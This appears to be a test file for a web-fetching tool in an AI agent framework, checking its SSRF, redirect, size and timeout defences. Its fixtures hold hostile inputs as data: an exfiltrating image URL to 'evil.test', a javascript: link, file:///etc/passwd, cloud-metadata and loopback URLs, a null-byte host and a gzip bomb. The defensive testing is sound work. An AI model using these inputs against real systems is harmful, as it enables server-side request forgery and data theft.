import { Approvals, ApprovalPolicy } from "@belay/approval-policy"
import { ToolCatalog, ToolExecutor, type Tool } from "@belay/tool-executor"
import { FetchUrl, type Network } from "@belay/tool-executor/web"
import { assert, describe, it } from "@effect/vitest"
import * as Effect from "effect/Effect"
import * as Fiber from "effect/Fiber"
import * as Layer from "effect/Layer"
import { TestClock } from "effect/testing"
import * as http from "node:http"
import * as net from "node:net"
import { gzipSync } from "node:zlib"
import { context } from "../fixtures/Tools.ts"

const publicAddress = "93.184.216.34"

type Names = Readonly<Record<string, ReadonlyArray<string>>>

interface Site {
  readonly port: number
  /** `host path` of each request, in order. */
  readonly seen: Array<http.IncomingMessage>
  /** Every name that was looked up and every address that was connected to. */
  readonly steps: Array<string>
  readonly network: Network.Network
}

const listening = (server: net.Server): Promise<number> =>
  new Promise((resolve) => server.listen(0, "127.0.0.1", () => resolve((server.address() as net.AddressInfo).port)))

/** A server on loopback that stands for every public address. */
const site = (answer: http.RequestListener, names: Names | ((host: string) => ReadonlyArray<string>) = {}) =>
  Effect.acquireRelease(
    Effect.promise(async () => {
      const seen: Array<http.IncomingMessage> = []
      const steps: Array<string> = []
      const server = http.createServer((request, response) => {
        seen.push(request)
        answer(request, response)
      })
      const port = await listening(server)
      const network: Network.Network = {
        resolve: (host) =>
          Effect.sync(() => {
            steps.push(`resolve ${host}`)
            return typeof names === "function" ? names(host) : (names[host] ?? [publicAddress])
          }),
        dial: (address) => {
          steps.push(`dial ${address}`)
          return { host: "127.0.0.1", port }
        }
      }
      return { server, port, seen, steps, network }
    }),
    ({ server }) =>
      Effect.promise(async () => {
        server.closeAllConnections()
        await new Promise((resolve) => server.close(resolve))
      })
  )

const textOf = ({ content, isError }: Tool.ToolOutput): string =>
  `${isError ? "error: " : ""}${content.map((block) => (block.type === "text" ? block.text : "")).join("")}`

const fetched = (url: string, { network }: Pick<Site, "network">) =>
  Effect.map(FetchUrl.make({ network }).execute({ url }, { ...context, callId: "c" }), textOf)

const html =
  (body: string): http.RequestListener =>
  (_request, response) => {
    response.setHeader("content-type", "text/html; charset=utf-8")
    response.end(body)
  }

const article = `<html><head><title>How to belay</title><script>steal()</script></head><body>
<nav><a href="/home">Home</a></nav><article><h1>How to belay</h1>${"<p>Hold the rope with both hands and watch the climber at all times, whatever happens.</p>".repeat(8)}
<pre><code>belay run "x"</code></pre><p>See <a href="../more?a=1">more</a> and <a href="javascript:alert(1)">this</a>.</p>
<img src="https://evil.test/?d=SECRET" alt="A knot"><table><tr><th>Knot</th><th>Use</th></tr><tr><td>Eight</td><td>Tie in</td></tr></table>
</article></body></html>`

describe("fetch_url", () => {
  it.effect("gives the readable part of a page as Markdown, without scripts, images and dead links", () =>
    Effect.gen(function* () {
      const server = yield* site(html(article))
      const text = yield* fetched("http://docs.example.com/a/b", server)
      assert.match(text, /^http:\/\/docs\.example\.com\/a\/b\nHow to belay\n/)
      assert.include(text, "Hold the rope with both hands")
      assert.include(text, '```\nbelay run "x"\n```')
      assert.include(text, "[more](http://docs.example.com/more?a=1)")
      assert.include(text, "[image: A knot]")
      assert.match(text, /\| Knot \| Use \|\n\| --- \| --- \|\n\| Eight \| Tie in \|/)
      for (const gone of ["steal", "evil.test", "javascript:"]) assert.notInclude(text, gone)
      const [request] = server.seen
      assert.strictEqual(request?.headers.host, "docs.example.com")
      for (const header of ["cookie", "authorization", "referer"]) assert.isUndefined(request?.headers[header])
    })
  )

  it.effect("connects to the address that was judged, whatever the name says a moment later", () =>
    Effect.gen(function* () {
      let asked = 0
      const server = yield* site(html("<p>ok</p>"), () => (asked++ === 0 ? [publicAddress] : ["127.0.0.1"]))
      assert.include(yield* fetched("http://rebind.example.com/", server), "ok")
      assert.deepStrictEqual(server.steps, ["resolve rebind.example.com", `dial ${publicAddress}`])
      assert.match(yield* fetched("http://rebind.example.com/", server), /^error: .*leads to .127\.0\.0\.1/)
      assert.lengthOf(server.seen, 1)
    })
  )

  it.effect("connects nowhere when one address of a name is private, in any spelling", () =>
    Effect.gen(function* () {
      const inner = ["10.0.0.1", "169.254.169.254", "::1", "::ffff:127.0.0.1", "fd00::1", "100.64.0.1", "0.0.0.0"]
      for (const address of inner) {
        const server = yield* site(html("secret"), () => [publicAddress, address])
        assert.match(yield* fetched("https://a.example.com/", server), /^error: .*not public/)
        assert.notInclude(server.steps.join(), "dial")
      }
      const server = yield* site(html("secret"))
      for (const url of [
        "http://127.1/",
        "http://[::1]/",
        "http://0x7f000001/",
        "http://localhost/",
        "http://metadata/"
      ]) {
        assert.match(yield* fetched(url, server), /^error: .*not public/, url)
      }
      for (const url of ["file:///etc/passwd", "ftp://a.com/", "http://user:pw@a.com/", "http://a.com\0.b.com/", "x"]) {
        assert.match(yield* fetched(url, server), /^error: /, url)
      }
      assert.deepStrictEqual(server.steps, [])
    })
  )

  it.effect("judges each redirect: inside the host it follows, to private places it stops, to others it tells", () =>
    Effect.gen(function* () {
      const moved: http.RequestListener = (request, response) => {
        const to = new URL(request.url ?? "/", "http://x").searchParams.get("to")
        response.writeHead(to === null ? 200 : 302, to === null ? { "content-type": "text/plain" } : { location: to })
        response.end("here")
      }
      const server = yield* site(moved, { "inside.example.com": ["192.168.0.7"] })
      const from = (to: string) => fetched(`http://a.example.com/?to=${encodeURIComponent(to)}`, server)
      assert.include(yield* from("/plain"), "http://a.example.com/plain\n\nhere")
      assert.include(yield* from("http://www.a.example.com/plain"), "here")
      const requests = server.seen.length
      for (const to of ["http://169.254.169.254/latest", "http://inside.example.com/", "file:///etc/passwd"]) {
        assert.match(yield* from(to), /^error: /, to)
      }
      assert.include(yield* from("http://b.example.com/c"), "redirects to another host: http://b.example.com/c")
      assert.lengthOf(server.seen, requests + 4)
      assert.isTrue(server.seen.every(({ headers }) => headers.host !== "b.example.com"))
      const loop = yield* site((_request, response) => void response.writeHead(302, { location: "/again" }).end())
      assert.match(yield* fetched("http://a.example.com/", loop), /^error: .*redirects too often/)
    })
  )

  it.effect("reads no more than 2 MB, unpacked, and shows no more than 48,000 characters", () =>
    Effect.gen(function* () {
      const bomb = gzipSync(Buffer.alloc(64 * 1024 * 1024, "a"))
      const server = yield* site((_request, response) => {
        response.writeHead(200, { "content-type": "text/plain", "content-encoding": "gzip" }).end(bomb)
      })
      const text = yield* fetched("http://a.example.com/", server)
      assert.isBelow(text.length, 48_300)
      assert.include(text, "only the first 2 MB of the page were read")
      const endless = yield* site((_request, response) => {
        response.writeHead(200, { "content-type": "text/html" })
        const write = (): void => {
          while (!response.destroyed && response.write("word ".repeat(5000)));
          response.once("drain", write)
        }
        write()
      })
      assert.include(yield* fetched("http://a.example.com/", endless), "only the first 2 MB")
    })
  )

  it.effect("gives up after 30 seconds, whether nothing comes or no end of it, and leaves no connection", () =>
    Effect.gen(function* () {
      for (const begins of [false, true]) {
        const [asked, left] = [Promise.withResolvers<void>(), Promise.withResolvers<void>()]
        const server = yield* site((request, response) => {
          if (begins) response.writeHead(200, { "content-type": "text/plain" }).write("some")
          request.socket.once("close", () => left.resolve())
          asked.resolve()
        })
        const fetching = yield* Effect.forkChild(fetched("http://slow.example.com/", server))
        yield* Effect.promise(() => asked.promise)
        yield* TestClock.adjust("29 seconds")
        assert.isUndefined(fetching.pollUnsafe())
        yield* TestClock.adjust("1 second")
        assert.match(yield* Fiber.join(fetching), /^error: .*it took longer than 30 seconds/)
        yield* Effect.promise(() => left.promise)
      }
    })
  )

  it.effect("tells what a page is that is no text, and what a server answers that has none", () =>
    Effect.gen(function* () {
      const server = yield* site((request, response) => {
        if (request.url === "/missing")
          return void response.writeHead(404, { "content-type": "text/plain" }).end("none")
        if (request.url === "/broken") return void request.socket.destroy()
        if (request.url === "/latin1") {
          return void response.setHeader("content-type", "text/plain; charset=iso-8859-1").end(Buffer.from([0xe9]))
        }
        response.writeHead(200, { "content-type": "application/zip" }).end("PK")
      })
      assert.strictEqual(
        yield* fetched("http://a.com/z", server),
        "error: http://a.com/z is application/zip of 2 bytes, no text."
      )
      assert.match(yield* fetched("http://a.com/missing", server), /^error: http:\/\/a\.com\/missing answered 404\./)
      assert.match(yield* fetched("http://a.com/broken", server), /^error: .*was not fetched/)
      assert.include(yield* fetched("http://a.com/latin1", server), "é")
      assert.match(
        yield* fetched("http://gone.com/", { network: { ...server.network, resolve: () => Effect.succeed([]) } }),
        /no host of this name/
      )
    })
  )

  it.effect("speaks TLS with the name of the host to the address that was judged", () =>
    Effect.gen(function* () {
      const hello = yield* Effect.callback<string>((resume) => {
        const server = net.createServer((socket) => {
          socket.once("data", (bytes) => {
            resume(Effect.succeed(bytes.toString("latin1")))
            socket.destroy()
            server.close()
          })
        })
        void listening(server).then((port) => {
          const dial = () => ({ host: "127.0.0.1", port })
          const network = { resolve: () => Effect.succeed([publicAddress]), dial }
          Effect.runFork(fetched("https://secure.example.com/", { network }))
        })
      })
      assert.include(hello, "secure.example.com")
    })
  )

  it.effect("looks no name up before the call may run, and is denied by its address alone", () =>
    Effect.gen(function* () {
      const server = yield* site(html("x"))
      const layer = ToolExecutor.layer.pipe(
        Layer.provide([
          ToolCatalog.layer([FetchUrl.make({ network: server.network })]),
          ApprovalPolicy.ApprovalPolicy.layer
        ])
      )
      const decided = (url: string, approvals: Approvals.Approvals) =>
        Effect.gen(function* () {
          const executor = yield* ToolExecutor
          const call = { callId: "c", name: "fetch_url", input: { url } }
          const { decision } = yield* executor.prepare(call, { ...context, approvals })
          return `${decision?.decision} ${decision?.rule}`
        }).pipe(Effect.provide(layer))
      assert.strictEqual(yield* decided("https://secret.evil.com/", Approvals.ask), "ask fetch")
      assert.strictEqual(yield* decided("https://example.com/", Approvals.all), "allow fetch")
      assert.strictEqual(yield* decided("http://169.254.169.254/", Approvals.all), "deny fetch.address")
      assert.deepStrictEqual(server.steps, [])
    })
  )
})
